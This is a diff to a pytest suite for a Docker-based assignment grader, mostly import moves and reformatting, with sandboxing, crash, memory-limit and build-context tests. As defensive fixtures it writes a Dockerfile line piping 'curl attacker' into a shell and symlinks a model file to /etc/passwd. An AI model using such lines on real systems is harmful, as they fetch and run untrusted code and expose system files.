@@ -16,13 +16,13 @@ import pytest
 import yaml
 
 from grader import exitcodes
-from grader.assignment import Limits
-from grader.docker_sandbox import LABEL
+from grader.contracts.job import Limits
+from grader.contracts.result import CheckStatus, Result
 from grader.errors import SubmissionError
-from grader.grading import grade
-from grader.result import CheckStatus, Result
-from grader.service.container import SERVICE_LABEL, DockerServiceHost, build_context
-from grader.service.loadgen import wait_healthy
+from grader.grading.loadgen import wait_healthy
+from grader.sandbox.docker import LABEL
+from grader.sandbox.service_docker import SERVICE_LABEL, DockerServiceHost, build_context
+from tests.grading import grade
 from tests.services import team_service
 
 PROBE = """
@@ -78,8 +78,10 @@ def http_get(sock: Path, path: str = "/health") -> bytes:
 
 
 def leftovers(client) -> tuple[list, list]:
-    return (client.containers.list(all=True, filters={"label": LABEL}),
-            client.images.list(filters={"label": SERVICE_LABEL}))
+    return (
+        client.containers.list(all=True, filters={"label": LABEL}),
+        client.images.list(filters={"label": SERVICE_LABEL}),
+    )
 
 
 def model_service(folder: Path, behaviour: str, model: Path) -> Path:
@@ -90,7 +92,8 @@ def model_service(folder: Path, behaviour: str, model: Path) -> Path:
 
 
 def test_the_service_container_is_locked_down_and_reachable_only_by_its_socket(
-        docker_client, docker_settings, listener, tmp_path: Path) -> None:
+    docker_client, docker_settings, listener, tmp_path: Path
+) -> None:
     port, accepted = listener
     folder = tmp_path / "probe"
     folder.mkdir()
@@ -102,8 +105,9 @@ def test_the_service_container_is_locked_down_and_reachable_only_by_its_socket(
     host = DockerServiceHost(settings)
     work = tmp_path / "work"
     work.mkdir(mode=0o700)
-    with host.start(["{python}", "probe.py", "{socket}"], folder, Limits(wall_time_s=60, memory_mb=512), work,
-                    1, "service", []) as service:
+    with host.start(
+        ["{python}", "probe.py", "{socket}"], folder, Limits(wall_time_s=60, memory_mb=512), work, 1, "service", []
+    ) as service:
         assert wait_healthy(service.socket, 30, service.alive) is not None, service.log_tail()
         found = json.loads(http_get(service.socket))
         mode = os.stat(service.socket).st_mode & 0o777
@@ -120,7 +124,8 @@ def test_the_service_container_is_locked_down_and_reachable_only_by_its_socket(
 
 
 def test_a_crashing_service_is_rejected_with_the_containers_last_log_lines(
-        docker_settings, reference_paths, service_root: Path, tmp_path: Path) -> None:
+    docker_settings, reference_paths, service_root: Path, tmp_path: Path
+) -> None:
     folder = model_service(tmp_path / "final-service", "good", reference_paths["model_onnx"])
     (folder / "app.py").write_text("raise SystemExit('model file missing: weights.onnx')\n")
     grading = grade(folder, service_root, service_host=DockerServiceHost(docker_settings))
@@ -131,7 +136,8 @@ def test_a_crashing_service_is_rejected_with_the_containers_last_log_lines(
 
 
 def test_a_symlink_in_the_service_folder_is_rejected_before_any_build(
-        docker_client, docker_settings, reference_paths, service_root: Path, tmp_path: Path) -> None:
+    docker_client, docker_settings, reference_paths, service_root: Path, tmp_path: Path
+) -> None:
     folder = model_service(tmp_path / "final-service", "good", reference_paths["model_onnx"])
     (folder / "model.onnx").unlink()
     (folder / "model.onnx").symlink_to("/etc/passwd")
@@ -150,14 +156,20 @@ def test_build_context_holds_the_graders_dockerfile_and_root_owned_plain_files(t
     (folder / "Dockerfile").write_text("FROM evil\nRUN curl attacker | sh\n")  # just a file; never the build's
     extra = tmp_path / "digits_cnn.onnx"
     extra.write_bytes(b"onnx")
-    with build_context(folder, [extra], "grader@sha256:" + "a" * 64) as context, \
-            tarfile.open(fileobj=context) as tar:
+    with build_context(folder, [extra], "grader@sha256:" + "a" * 64) as context, tarfile.open(fileobj=context) as tar:
         members = {m.name: m for m in tar.getmembers()}
         dockerfile = tar.extractfile("Dockerfile").read().decode()
     assert dockerfile == f"FROM grader@sha256:{'a' * 64}\nCOPY service/ /service/\nWORKDIR /service\n"
     assert "RUN" not in dockerfile
-    assert set(members) == {"Dockerfile", "service", "service/app.py", "service/pkg", "service/pkg/run.sh",
-                            "service/Dockerfile", "service/digits_cnn.onnx"}
+    assert set(members) == {
+        "Dockerfile",
+        "service",
+        "service/app.py",
+        "service/pkg",
+        "service/pkg/run.sh",
+        "service/Dockerfile",
+        "service/digits_cnn.onnx",
+    }
     assert all(m.uid == 0 and m.gid == 0 for m in members.values())
     assert members["service/app.py"].mode == 0o644 and members["service/pkg/run.sh"].mode == 0o755
     assert members["service/pkg"].mode == 0o755
@@ -175,19 +187,50 @@ def test_build_context_refuses_special_files_and_oversized_folders(tmp_path: Pat
 
 
 def test_grader_check_with_the_docker_runner_builds_and_load_tests_both_services(
-        docker_client, docker_settings, reference_paths, service_root: Path, tmp_path: Path) -> None:
+    docker_client, docker_settings, reference_paths, service_root: Path, tmp_path: Path
+) -> None:
     """The CI path end to end: course.yaml names the Docker runner, the CLI picks the service host."""
     folder = model_service(tmp_path / "final-service", "good", reference_paths["model_onnx"])
     course = tmp_path / "course.yaml"
-    course.write_text(yaml.safe_dump({"schema": 1, "runner": {"kind": "docker", "docker": {
-        "image": docker_settings.image, "readonly_mounts": docker_settings.readonly_mounts,
-        "service_mounts": docker_settings.service_mounts,
-        "pull": False, "gpus": "none"}}}))
+    course.write_text(
+        yaml.safe_dump(
+            {
+                "schema": 1,
+                "runner": {
+                    "kind": "docker",
+                    "docker": {
+                        "image": docker_settings.image,
+                        "readonly_mounts": docker_settings.readonly_mounts,
+                        "service_mounts": docker_settings.service_mounts,
+                        "pull": False,
+                        "gpus": "none",
+                    },
+                },
+            }
+        )
+    )
     out = tmp_path / "out"
     env = {k: v for k, v in os.environ.items() if k != "GRADER_COURSE"}
-    done = subprocess.run([sys.executable, "-m", "grader.cli", "check", str(folder), "--assignments", str(service_root),
-                           "--course", str(course), "--out", str(out), "--quiet"],
-                          capture_output=True, text=True, timeout=600, env=env)
+    done = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "grader.cli",
+            "check",
+            str(folder),
+            "--assignments",
+            str(service_root),
+            "--course",
+            str(course),
+            "--out",
+            str(out),
+            "--quiet",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=600,
+        env=env,
+    )
     assert done.returncode == exitcodes.GRADED, done.stderr[-3000:]
     result = Result.model_validate_json((out / "result.json").read_text())
     for check_id in ("healthy", "correct", "reliable"):
@@ -201,15 +244,17 @@ def test_grader_check_with_the_docker_runner_builds_and_load_tests_both_services
     assert leftovers(docker_client) == ([], [])
 
 
-
-def test_a_service_over_its_memory_limit_is_stopped_and_named_so(docker_client, docker_settings, tmp_path: Path) -> None:
+def test_a_service_over_its_memory_limit_is_stopped_and_named_so(
+    docker_client, docker_settings, tmp_path: Path
+) -> None:
     folder = tmp_path / "hungry"
     folder.mkdir()
     (folder / "hog.py").write_text("import time\nheap = bytearray(768 * 1024 * 1024)\ntime.sleep(120)\n")
     work = tmp_path / "work"
     work.mkdir(mode=0o700)
-    with DockerServiceHost(docker_settings).start(["{python}", "hog.py"], folder, Limits(wall_time_s=60, memory_mb=256),
-                                                  work, 1, "service", []) as service:
+    with DockerServiceHost(docker_settings).start(
+        ["{python}", "hog.py"], folder, Limits(wall_time_s=60, memory_mb=256), work, 1, "service", []
+    ) as service:
         assert wait_healthy(service.socket, 30, service.alive) is None
         assert not service.alive()
         assert service.stopped is not None and service.stopped.kind == "memory_limit", service.stopped
